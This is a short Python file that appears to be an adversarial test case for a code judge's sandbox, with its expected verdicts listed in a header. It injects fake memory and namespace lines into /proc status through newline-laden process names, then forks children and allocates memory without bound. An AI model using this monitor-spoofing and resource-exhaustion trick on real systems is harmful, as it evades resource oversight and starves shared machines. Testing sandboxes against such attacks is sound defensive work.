# attack: a name with line ends, so that who reads its status reads that it has no memory and no children
# expect: runtime_error wrong_answer timeout
import ctypes, os
def solve(n):
    for name in (b"x)\nVmRSS: 0 kB", b"\n\n1 1 1\nNSpid:\t1"): ctypes.CDLL(None).prctl(15, name, 0, 0, 0)
    held = []
    for _ in range(8):
        if os.fork() == 0: break
    while True: held.append(bytearray(os.urandom(1)) * 2**20)
